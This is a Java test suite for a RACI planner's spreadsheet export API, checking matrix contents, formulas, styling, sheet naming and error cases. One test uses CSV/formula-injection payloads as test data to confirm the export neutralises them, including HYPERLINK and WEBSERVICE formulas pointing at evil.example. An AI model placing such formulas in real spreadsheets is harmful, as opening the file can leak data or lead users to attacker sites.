package org.raciplanner.spreadsheet;

import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataValidation;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFCellStyle;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.raciplanner.support.Api;
import org.raciplanner.support.Startup;
import org.raciplanner.support.Workbooks;

import java.io.IOException;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.raciplanner.support.Api.map;
import static org.raciplanner.support.Api.staff;

@MicronautTest(environments = "test")
class SpreadsheetExportApiTest {

    private static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    @Inject
    Api api;

    @Test
    void initiativeWorkbookShowsTheMatrixWithLettersCountsAndRuleBreaches() throws IOException {
        Startup s = api.startup();
        Api.Download download = api.download(initiativePath(s) + "/raci.xlsx").expect(200);
        assertEquals(XLSX, download.header("Content-Type"));
        String disposition = download.header("Content-Disposition");
        assertTrue(disposition.startsWith("attachment;"), disposition);
        assertTrue(disposition.contains("filename=\"startup-atlas-launch-raci-" + LocalDate.now(ZoneOffset.UTC) + ".xlsx\""),
                disposition);

        try (XSSFWorkbook workbook = Workbooks.open(download.body())) {
            assertEquals(List.of("Atlas launch", "Legend"), sheetNames(workbook));
            XSSFSheet sheet = workbook.getSheet("Atlas launch");
            assertEquals("Atlas launch", sheet.getRow(0).getCell(0).getStringCellValue());
            assertTrue(sheet.getRow(1).getCell(0).getStringCellValue().startsWith("Project · "));
            Row header = sheet.getRow(Workbooks.HEADER);
            assertEquals("Responsibility", header.getCell(0).getStringCellValue());
            assertEquals("Dana\ndana@example.com\nproject-manager", header.getCell(2).getStringCellValue());

            Map<String, Object> matrix = api.get(initiativePath(s) + "/matrix").expect(200).map();
            assertSameLetters(matrix, sheet);

            Cell budget = Workbooks.cell(sheet, "Budget and cost control", "dana@example.com");
            assertEquals("R", budget.getStringCellValue());
            assertFill(budget, "C6EFCE");
            Cell plan = Workbooks.cell(sheet, "Project plan (scope, timeline, resources, costs)", "dana@example.com");
            assertEquals("RA", plan.getStringCellValue());
            assertTrue(workbook.getFontAt(plan.getCellStyle().getFontIndex()).getBold(), "A is bold");
            assertFill(Workbooks.cell(sheet, "Scope management", "local1@example.com"), "FFF2CC");

            int people = 28;
            int aCount = 2 + people;
            Row budgetRow = Workbooks.row(sheet, "Budget and cost control");
            assertFormula(budgetRow.getCell(aCount), 0);
            assertFormula(budgetRow.getCell(aCount + 1), 1);
            assertFormula(budgetRow.getCell(aCount + 3), 0);
            assertFormula(Workbooks.row(sheet, "Scope management").getCell(aCount + 3), 27);
            assertEquals("No A", budgetRow.getCell(aCount + 4).getStringCellValue());
            assertEquals(CellType.FORMULA, budgetRow.getCell(aCount + 4).getCellType());
            Row planRow = Workbooks.row(sheet, "Project plan (scope, timeline, resources, costs)");
            assertEquals("", planRow.getCell(aCount + 4).getStringCellValue());
            assertEquals(1, sheet.getSheetConditionalFormatting().getNumConditionalFormattings(), "broken rows are highlighted");

            int rows = ((List<?>) matrix.get("responsibilities")).size();
            Row totalA = sheet.getRow(Workbooks.FIRST_ROW + rows);
            assertEquals("Total A", totalA.getCell(0).getStringCellValue());
            assertFormula(totalA.getCell(2), rows - 1); // Dana holds an A everywhere but on the budget
            assertFormula(sheet.getRow(Workbooks.FIRST_ROW + rows + 3).getCell(3), rows - 1); // the team is I but on the budget

            DataValidation validation = sheet.getDataValidations().get(0);
            assertEquals(List.of("R", "A", "C", "I", "RA"), List.of(validation.getValidationConstraint().getExplicitListValues()));
            CellRangeAddress range = validation.getRegions().getCellRangeAddress(0);
            assertEquals(new CellRangeAddress(Workbooks.FIRST_ROW, Workbooks.FIRST_ROW + rows - 1, 2, 1 + people), range);

            assertEquals(1, sheet.getPaneInformation().getVerticalSplitPosition());
            assertEquals(Workbooks.FIRST_ROW, sheet.getPaneInformation().getHorizontalSplitPosition());
            assertNotNull(sheet.getCTWorksheet().getAutoFilter());
            assertTrue(sheet.getPrintSetup().getLandscape());
            assertEquals(1, sheet.getPrintSetup().getFitWidth());
            assertTrue(sheet.getFitToPage());
            assertTrue(sheet.isColumnHidden(aCount + 5), "the merge column is hidden");
            assertTrue(sheet.getColumnWidth(0) >= 40 * 256, "responsibility names fit");

            XSSFSheet legend = workbook.getSheet("Legend");
            assertEquals("R", legend.getRow(1).getCell(0).getStringCellValue());
            assertFill(legend.getRow(2).getCell(0), "F8CBAD");
        }
    }

    @Test
    void teamWorkbookHasAMatrixPerInitiativeWorkloadWarningsAndLegend() throws IOException {
        Startup s = api.startup();
        Api.Download download = api.download("/api/v1/teams/" + s.team() + "/raci.xlsx").expect(200);
        assertTrue(download.header("Content-Disposition").contains("startup-raci-" + LocalDate.now(ZoneOffset.UTC) + ".xlsx"));
        try (XSSFWorkbook workbook = Workbooks.open(download.body())) {
            assertEquals(List.of("Workload", "Load by week", "Warnings", "Atlas", "Atlas launch", "Legend"), sheetNames(workbook));

            XSSFSheet workload = workbook.getSheet("Workload");
            Row dana = workload.getRow(1);
            assertEquals("Dana", dana.getCell(0).getStringCellValue());
            assertEquals("dana@example.com", dana.getCell(1).getStringCellValue());
            assertEquals(89.5, dana.getCell(3).getNumericCellValue(), 0.05);
            assertEquals(223.7, dana.getCell(4).getNumericCellValue(), 0.05);
            assertFill(dana.getCell(4), "FFC7CE");
            assertEquals(28, workload.getLastRowNum());

            XSSFSheet warnings = workbook.getSheet("Warnings");
            assertEquals(List.of("Severity", "Code", "Subject", "Message", "Advice"), texts(warnings.getRow(0)));
            List<List<String>> lines = new ArrayList<>();
            for (int r = 1; r <= warnings.getLastRowNum(); r++) {
                lines.add(texts(warnings.getRow(r)));
            }
            int total = api.get("/api/v1/teams/" + s.team() + "/warnings").expect(200).list().size();
            assertEquals(total, lines.size());
            assertTrue(lines.stream().anyMatch(l -> l.get(0).equals("ERROR") && l.get(1).equals("CAPACITY_OVERLOAD")
                    && l.get(2).equals("Dana")), lines.toString());
            assertTrue(lines.stream().anyMatch(l -> l.get(1).equals("NO_ACCOUNTABLE")
                    && l.get(2).equals("Atlas launch › Budget and cost control")), lines.toString());

            assertSameLetters(api.get(initiativePath(s) + "/matrix").expect(200).map(), workbook.getSheet("Atlas launch"));
        }
    }

    @Test
    void sheetNamesAreSafeAndUnique() throws IOException {
        long team = api.team("Names");
        String longName = "Quarterly planning for the northern region";
        List.of("Q1/Q2: plan [draft]?", longName, longName, "Legend", "History", "'quoted'")
                .forEach(n -> api.project(team, n));
        try (XSSFWorkbook workbook = Workbooks.open(api.download("/api/v1/teams/" + team + "/raci.xlsx").expect(200).body())) {
            List<String> names = sheetNames(workbook);
            assertEquals(List.of("Workload", "Load by week", "Warnings", "Q1_Q2_ plan _draft__", "Quarterly planning for the nort",
                    "Quarterly planning for the (2)", "Legend (2)", "History (2)", "quoted", "Legend"), names);
            names.forEach(n -> assertTrue(n.length() <= 31, n));
            // the title still shows the real name
            assertEquals("Q1/Q2: plan [draft]?", workbook.getSheetAt(3).getRow(0).getCell(0).getStringCellValue());
        }
    }

    @Test
    void textThatLooksLikeAFormulaStaysPlainText() throws IOException {
        long team = api.team("Injection");
        List<String> hostile = List.of("=HYPERLINK(\"http://evil.example\",\"click\")", "+1+2", "-3+4", "@SUM(1,2)");
        List<Long> people = new ArrayList<>();
        for (int i = 0; i < hostile.size(); i++) {
            people.add(api.post("/api/v1/teams/" + team + "/people", map("name", hostile.get(i), "email", "p" + i + "@example.com"))
                    .expect(201).id());
        }
        long initiative = api.initiative(team, map("kind", "PROJECT", "name", "=1+1", "template", "delivery-project",
                "staffing", List.of(staff("project-manager", people.get(0)), staff("delivery-team", people.get(1)))));
        String base = "/api/v1/teams/" + team + "/initiatives/" + initiative;
        api.post(base + "/responsibilities", map("key", "evil", "name", "=WEBSERVICE(\"http://evil.example\")")).expect(201);
        for (int i = 2; i < people.size(); i++) {
            api.put(base + "/matrix/evil/" + people.get(i), map("letters", "I")).expect(200);
        }
        try (XSSFWorkbook workbook = Workbooks.open(api.download("/api/v1/teams/" + team + "/raci.xlsx").expect(200).body())) {
            XSSFSheet sheet = workbook.getSheet("=1+1");
            assertPlainText(sheet.getRow(0).getCell(0), "=1+1");
            assertPlainText(Workbooks.row(sheet, "=WEBSERVICE(\"http://evil.example\")").getCell(0),
                    "=WEBSERVICE(\"http://evil.example\")");
            for (int i = 0; i < hostile.size(); i++) {
                Cell header = sheet.getRow(Workbooks.HEADER).getCell(Workbooks.column(sheet, "p" + i + "@example.com"));
                assertEquals(CellType.STRING, header.getCellType());
                assertTrue(header.getStringCellValue().startsWith(hostile.get(i)), header.getStringCellValue());
                assertTrue(header.getCellStyle().getQuotePrefixed());
            }
            XSSFSheet workload = workbook.getSheet("Workload");
            for (int r = 1; r <= workload.getLastRowNum(); r++) {
                assertTrue(hostile.contains(workload.getRow(r).getCell(0).getStringCellValue()));
                assertPlainText(workload.getRow(r).getCell(0), workload.getRow(r).getCell(0).getStringCellValue());
            }
            for (int i = 0; i < workbook.getNumberOfSheets(); i++) {
                assertTrue(workbook.getSheetAt(i).getHyperlinkList().isEmpty(), "no hyperlinks");
            }
        }
    }

    @Test
    void emptyTeamsAndMatricesStillMakeWorkbooks() throws IOException {
        long team = api.team("Empty");
        try (XSSFWorkbook workbook = Workbooks.open(api.download("/api/v1/teams/" + team + "/raci.xlsx").expect(200).body())) {
            assertEquals(List.of("Workload", "Load by week", "Warnings", "Legend"), sheetNames(workbook));
        }
        long bare = api.project(team, "Bare");
        long rowsOnly = api.project(team, "Rows only");
        api.post("/api/v1/teams/" + team + "/initiatives/" + rowsOnly + "/responsibilities", map("key", "budget", "name", "Budget"))
                .expect(201);
        try (XSSFWorkbook workbook = Workbooks.open(api.download("/api/v1/teams/" + team + "/raci.xlsx").expect(200).body())) {
            assertEquals(List.of("Workload", "Load by week", "Warnings", "Bare", "Rows only", "Legend"), sheetNames(workbook));
            Row budget = Workbooks.row(workbook.getSheet("Rows only"), "Budget");
            assertEquals("No A, No R", budget.getCell(2 + 4).getStringCellValue());
        }
        for (long initiative : List.of(bare, rowsOnly)) {
            byte[] file = api.download("/api/v1/teams/" + team + "/initiatives/" + initiative + "/raci.xlsx").expect(200).body();
            assertEquals(0, ((Number) api.upload("PUT", "/api/v1/teams/" + team + "/initiatives/" + initiative + "/raci.xlsx",
                    XLSX, file).expect(200).map().get("changed")).intValue());
        }
    }

    @Test
    void unknownTeamOrInitiativeIsNotFound() throws IOException {
        long team = api.team("Lonely");
        assertEquals(404, api.download("/api/v1/teams/" + team + "/initiatives/999999/raci.xlsx").status());
        assertEquals(404, api.download("/api/v1/teams/999999/raci.xlsx").status());
    }

    // ---- checks ---------------------------------------------------------------------------

    private static String initiativePath(Startup s) {
        return "/api/v1/teams/" + s.team() + "/initiatives/" + s.project();
    }

    /** Every cell of the API's matrix is in the sheet, and no other. */
    @SuppressWarnings("unchecked")
    static void assertSameLetters(Map<String, Object> matrix, XSSFSheet sheet) {
        Map<Number, String> emails = new HashMap<>();
        ((List<Map<String, Object>>) matrix.get("people")).forEach(p -> emails.put((Number) p.get("id"), (String) p.get("email")));
        Map<String, String> names = new HashMap<>();
        ((List<Map<String, Object>>) matrix.get("responsibilities")).forEach(r -> names.put((String) r.get("key"), (String) r.get("name")));
        List<Map<String, Object>> cells = (List<Map<String, Object>>) matrix.get("cells");
        int filled = 0;
        for (int r = Workbooks.FIRST_ROW; r < Workbooks.FIRST_ROW + names.size(); r++) {
            for (int c = 2; c < 2 + emails.size(); c++) {
                Cell cell = sheet.getRow(r).getCell(c);
                filled += cell != null && !cell.getStringCellValue().isEmpty() ? 1 : 0;
            }
        }
        assertEquals(cells.size(), filled);
        for (Map<String, Object> cell : cells) {
            String email = emails.get((Number) cell.get("person"));
            assertEquals(cell.get("letters"), Workbooks.cell(sheet, names.get((String) cell.get("responsibility")), email)
                    .getStringCellValue());
        }
    }

    private static void assertFormula(Cell cell, double value) {
        assertEquals(CellType.FORMULA, cell.getCellType());
        assertTrue(cell.getCellFormula().startsWith("SUMPRODUCT"), cell.getCellFormula());
        assertEquals(value, cell.getNumericCellValue(), 0.0, cell.getCellFormula());
    }

    private static void assertFill(Cell cell, String rgb) {
        XSSFCellStyle style = (XSSFCellStyle) cell.getCellStyle();
        assertEquals("FF" + rgb, style.getFillForegroundXSSFColor().getARGBHex());
    }

    private static void assertPlainText(Cell cell, String text) {
        assertEquals(CellType.STRING, cell.getCellType());
        assertEquals(text, cell.getStringCellValue());
        assertTrue(cell.getCellStyle().getQuotePrefixed(), "quote-prefixed: " + text);
    }

    private static List<String> sheetNames(XSSFWorkbook workbook) {
        List<String> names = new ArrayList<>();
        workbook.forEach(sheet -> names.add(sheet.getSheetName()));
        return names;
    }

    private static List<String> texts(Row row) {
        List<String> texts = new ArrayList<>();
        row.forEach(c -> texts.add(c.getStringCellValue()));
        return texts;
    }
}
